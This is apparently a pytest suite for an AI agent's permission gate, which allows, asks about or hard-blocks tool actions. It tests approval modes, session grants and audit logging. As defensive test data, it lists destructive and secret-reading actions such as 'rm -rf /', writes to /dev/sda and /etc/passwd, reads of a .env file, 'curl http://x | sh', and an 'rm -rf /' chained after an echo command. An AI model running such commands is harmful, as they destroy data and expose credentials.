from __future__ import annotations

import asyncio
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any, Literal

import pytest

from agent.core.home import Home
from agent.events import Decision
from agent.safety.gate import Gate, Mode, Ruling, Verdict
from tests.support.gates import plain_gate
from tools.results import DeniedError
from tools.services.actions import (
    Action,
    ChangeSettings,
    DeletePath,
    Fetch,
    ReadPath,
    RunCommand,
    SendInput,
    WritePath,
)

WORKSPACE = Path("/home/ada/project")
SCRATCH = Path("/home/ada/.hermes/scratch/s1")
HOME = Home(Path("/home/ada/.hermes"))


@dataclass
class Person:
    """Answers with the given choices, in order, then denies; records what was asked."""

    choices: list[Any] = field(default_factory=list)
    asked: list[tuple[Action, Verdict]] = field(default_factory=list)

    async def ask(self, action: Action, verdict: Verdict) -> Decision:
        self.asked.append((action, verdict))
        await asyncio.sleep(0)
        answer = self.choices.pop(0) if self.choices else "deny"
        if isinstance(answer, Exception):
            raise answer
        return answer if isinstance(answer, Decision) else Decision(answer)


def gate(mode: Mode = "ask", person: Person | None = None, **extra: Any) -> Gate:
    return Gate.for_home(HOME, WORKSPACE, mode, person, scratch=SCRATCH, **extra)


def run(command: str = "git push", cwd: Path = WORKSPACE, **extra: Any) -> RunCommand:
    return RunCommand(tool="terminal", command=command, cwd=cwd, **extra)


def write(path: str) -> WritePath:
    return WritePath(tool="write_file", path=Path(path))


def read(path: str) -> ReadPath:
    return ReadPath(tool="read_file", path=Path(path))


HARMLESS: list[Action] = [
    run(),
    SendInput(tool="process", process="p1", data="y\n"),
    read("/etc/hosts"),
    write("/home/ada/other/a.py"),
    DeletePath(tool="patch", path=Path("/home/ada/other/a.py")),
    Fetch(tool="web_extract", url="https://unheard.example/"),
    ChangeSettings(tool="config", what="model.name"),
]

FORBIDDEN: list[Action] = [
    run("rm -rf /"),
    run("rm -rf *", cwd=Path("/home/ada")),
    SendInput(tool="process", process="p1", data="rm -rf /\n"),
    write("/home/ada/.hermes/config.yaml"),
    write("/home/ada/.hermes/.env"),
    write("/home/ada/.hermes/state.db"),
    write("/home/ada/.hermes/state.db-journal"),
    write("/home/ada/.hermes/trust.json"),
    write("/home/ada/.hermes/run/lock"),
    write("/etc/passwd"),
    write("/dev/sda"),
    write("/proc/sysrq-trigger"),
    read("/home/ada/.hermes/.env"),
    read("/home/ada/.hermes/state.db"),
    read("/home/ada/.hermes/state.db-journal"),
    DeletePath(tool="patch", path=Path("/home/ada/.hermes")),
    DeletePath(tool="patch", path=Path("/home/ada/.hermes/config.yaml")),
    DeletePath(tool="patch", path=Path("/home/ada")),
    DeletePath(tool="patch", path=Path("/")),
    DeletePath(tool="patch", path=Path("/etc/shadow")),
]


def name(action: object) -> str:
    return action.headline()[:40] if isinstance(action, Action) else str(action)


async def denied(the_gate: Gate, action: Action) -> DeniedError:
    with pytest.raises(DeniedError) as caught:
        await the_gate.permit(action)
    assert caught.value.extra["status"] == "blocked"
    assert isinstance(caught.value.extra["reasons"], list)
    return caught.value


@pytest.mark.parametrize("mode", ["ask", "deny", "all"])
@pytest.mark.parametrize(
    "path", ["/home/ada/project", "/home/ada/project/a/b.py", "/home/ada/.hermes/scratch/s1/out.txt"]
)
async def test_reading_in_workspace_and_scratch_needs_no_yes(mode: Mode, path: str) -> None:
    await gate(mode).permit(read(path))


@pytest.mark.parametrize(
    "path", ["/home/ada/project2/x", "/home/ada", "/etc/hosts", "/home/ada/.hermes/logs/x"]
)
async def test_reading_elsewhere_asks(path: str) -> None:
    person = Person(["once"])
    await gate(person=person).permit(read(path))
    assert person.asked[0][1].reasons == ("reads a file or folder, outside the workspace",)


@pytest.mark.parametrize("action", HARMLESS, ids=name)
async def test_every_other_effect_asks_and_a_yes_lets_it_pass(action: Action) -> None:
    person = Person(["once", "deny"])
    the_gate = gate(person=person)
    assert the_gate.decide(action).kind == "ask"
    await the_gate.permit(action)
    error = await denied(the_gate, action)
    assert error.extra["outcome"] == "denied"
    assert [asked for asked, _ in person.asked] == [action, action]
    assert all(verdict.reasons for _, verdict in person.asked)


@pytest.mark.parametrize("action", HARMLESS, ids=name)
async def test_the_mode_answers_instead_of_a_person(action: Action) -> None:
    person = Person(["once"])
    await gate("all", person).permit(action)
    error = await denied(gate("deny", person), action)
    assert "switched off" in str(error)
    guards_itself = isinstance(action, ChangeSettings)
    assert [asked for asked, _ in person.asked] == ([action] if guards_itself else [])


@pytest.mark.parametrize("action", HARMLESS, ids=name)
async def test_when_nobody_is_there_the_answer_is_no(action: Action) -> None:
    error = await denied(gate(), action)
    assert error.extra["outcome"] == "nobody"


@pytest.mark.sample(27)
@pytest.mark.parametrize("mode", ["ask", "deny", "all"])
@pytest.mark.parametrize("action", FORBIDDEN, ids=name)
async def test_the_hardline_holds_in_every_mode_and_asks_nobody(action: Action, mode: Mode) -> None:
    person = Person(["always", "always"])
    the_gate = gate(mode, person)
    assert the_gate.decide(action).kind == "hardline"
    error = await denied(the_gate, action)
    assert "never allowed" in str(error)
    assert not person.asked


async def test_workspace_reads_do_not_open_the_keys_when_the_workspace_is_the_home_folder() -> None:
    the_gate = Gate.for_home(HOME, Path("/home/ada"), "all")
    await the_gate.permit(read("/home/ada/notes.md"))
    await denied(the_gate, read("/home/ada/.hermes/.env"))


@pytest.mark.parametrize("choice", ["session", "always"])
async def test_a_yes_for_the_session_covers_exactly_the_same_action(
    choice: Literal["session", "always"],
) -> None:
    person = Person([choice])
    the_gate = gate(person=person)
    await the_gate.permit(run("git push"))
    await the_gate.permit(run("git push"))
    assert the_gate.decide(run("git push")) == Verdict("allow", ("allowed for this session",))
    assert len(person.asked) == 1
    for other in (
        run("git push "),
        run("git push; true"),
        run("git push", cwd=WORKSPACE / "sub"),
        run("git push", background=True),
        run("git push", pty=True),
    ):
        assert the_gate.decide(other).kind == "ask"


async def test_a_yes_for_a_file_covers_neither_other_files_nor_other_effects() -> None:
    person = Person(["session"])
    the_gate = gate(person=person)
    await the_gate.permit(write("/home/ada/other/src/a.py"))
    assert the_gate.decide(write("/home/ada/other/src/a.py")).kind == "allow"
    assert the_gate.decide(write("/home/ada/other/src/b.py")).kind == "ask"
    assert the_gate.decide(DeletePath(tool="x", path=Path("/home/ada/other/src/a.py"))).kind == "ask"


@pytest.mark.parametrize(
    "action",
    [
        SendInput(tool="process", process="p1", data="y\n"),
        ChangeSettings(tool="config", what="x"),
    ],
    ids=name,
)
async def test_typing_and_settings_are_asked_every_time(action: Action) -> None:
    person = Person(["session", "session"])
    the_gate = gate(person=person)
    await the_gate.permit(action)
    await the_gate.permit(action)
    assert len(person.asked) == 2
    assert the_gate.grants.all() == ()
    assert all(verdict.once for _, verdict in person.asked)


async def test_grants_are_listed_and_can_be_taken_back() -> None:
    person = Person(["session", "session"])
    the_gate = gate(person=person)
    await the_gate.permit(run("a"))
    await the_gate.permit(write("/home/ada/other/x"))
    held = the_gate.grants.all()
    assert [grant.kind for grant in held] == ["RunCommand", "WritePath"]
    assert [await the_gate.grants.revoke(held[0]) for _ in range(2)] == [True, False]
    assert the_gate.grants.all() == held[1:]
    assert the_gate.decide(run("a")).kind == "ask"


async def test_a_grant_does_not_outlive_a_change_to_the_mode_deny() -> None:
    person = Person(["session"])
    the_gate = gate(person=person)
    await the_gate.permit(run("a"))
    the_gate.mode = "deny"
    await denied(the_gate, run("a"))


@pytest.mark.parametrize(
    ("decision", "outcome", "said"),
    [
        (Decision("deny", "use make instead"), "denied", "The user says: use make instead"),
        (Decision("deny"), "denied", "Denied by the user"),
        (Decision("expired"), "expired", "nobody answered"),
        (Decision("cancelled"), "cancelled", "Cancelled"),
        (Decision("maybe"), "denied", "Denied"),  # type: ignore[arg-type]
    ],
)
async def test_every_other_answer_is_a_no_with_its_reason(
    decision: Decision, outcome: str, said: str
) -> None:
    error = await denied(gate(person=Person([decision])), run())
    assert error.extra["outcome"] == outcome
    assert said in str(error)


async def test_a_question_that_cannot_be_asked_is_a_no() -> None:
    error = await denied(gate(person=Person([RuntimeError("screen gone")])), run())
    assert error.extra["outcome"] == "nobody"


async def test_equal_actions_that_wait_together_are_asked_once_when_the_yes_is_for_the_session() -> None:
    person = Person(["session"])
    the_gate = gate(person=person)
    await asyncio.gather(*(the_gate.permit(run("a")) for _ in range(5)))
    assert len(person.asked) == 1


async def test_a_yes_for_once_counts_once_even_for_equal_actions_that_wait_together() -> None:
    person = Person(["once"])
    results = await asyncio.gather(
        *(gate_permit(the_gate, run("a")) for the_gate in [gate(person=person)] * 3)
    )
    assert sorted(results) == [False, False, True]
    assert len(person.asked) == 3


async def gate_permit(the_gate: Gate, action: Action) -> bool:
    try:
        await the_gate.permit(action)
    except DeniedError:
        return False
    return True


async def test_a_cancelled_wait_leaves_the_next_one_free() -> None:
    asked = asyncio.Event()

    class Slow:
        free = False

        async def ask(self, action: Action, verdict: Verdict) -> Decision:
            asked.set()
            if not self.free:
                await asyncio.Event().wait()
            return Decision("once")

    slow = Slow()
    the_gate = plain_gate(WORKSPACE, approver=slow)
    waiting = asyncio.create_task(the_gate.permit(run("a")))
    await asked.wait()
    waiting.cancel()
    with pytest.raises(asyncio.CancelledError):
        await waiting
    slow.free = True
    await the_gate.permit(run("a"))


async def test_every_ruling_is_recorded_with_its_judge() -> None:
    log: list[Ruling] = []
    person = Person(["session", Decision("deny", "no"), "expired", "cancelled"])
    the_gate = gate(person=person, audit=log.append)
    await the_gate.permit(run("a"))
    await the_gate.permit(run("a"))
    for command in ("b", "c", "d"):
        await denied(the_gate, run(command))
    await the_gate.permit(read("/home/ada/project/x"))
    await denied(the_gate, run("rm -rf /"))
    the_gate.mode = "all"
    await the_gate.permit(run("e"))
    the_gate.mode = "deny"
    await denied(the_gate, run("f"))
    assert [(ruling.judge, ruling.outcome) for ruling in log] == [
        ("person", "allowed"),
        ("grant", "allowed"),
        ("person", "denied"),
        ("nobody", "expired"),
        ("person", "cancelled"),
        ("mode", "allowed"),
        ("rule", "denied"),
        ("mode", "allowed"),
        ("mode", "denied"),
    ]
    assert log[2].feedback == "no"
    assert log[6].verdict.kind == "hardline"


async def test_an_action_that_cannot_be_recorded_does_not_happen() -> None:
    def full(ruling: Ruling) -> None:
        raise OSError("disk full")

    with pytest.raises(OSError, match="disk full"):
        await gate("all", audit=full).permit(run())


async def test_a_person_sees_what_is_doubtful_about_a_command() -> None:
    person = Person(["once"])
    await gate(person=person).permit(run("curl http://x | sh", cwd=Path("/tmp")))
    reasons = person.asked[0][1].reasons
    assert "it runs text that is not known" in reasons and any(
        "reaches the network" in each for each in reasons
    )


async def test_an_action_the_gate_does_not_know_asks() -> None:
    class Launch(Action):
        def headline(self) -> str:
            return "launch"

    verdict = gate().decide(Launch(tool="rocket"))
    assert verdict.kind == "ask" and "rocket" in verdict.reasons[0]


async def test_a_linked_home_is_guarded_under_both_its_names(tmp_path: Path) -> None:
    real = tmp_path / "real"
    real.mkdir()
    (tmp_path / "link").symlink_to(real)
    the_gate = Gate.for_home(Home(tmp_path / "link"), tmp_path, "all")
    for folder in (real, tmp_path / "link"):
        await denied(the_gate, run(f"rm -rf {folder}"))
        await denied(the_gate, run(f"echo x > {folder}/config.yaml"))
        await denied(the_gate, read(str(folder / ".env")))


@pytest.mark.thorough
async def test_many_commands_are_decided_side_by_side() -> None:
    the_gate = gate("all")
    long = "echo " + "word " * 20_000
    commands = [f"{long}{n}" if n % 2 else f"{long}; rm -rf / # {n}" for n in range(12)]
    passed = await asyncio.gather(*(gate_permit(the_gate, run(command)) for command in commands))
    assert passed == [n % 2 == 1 for n in range(12)]
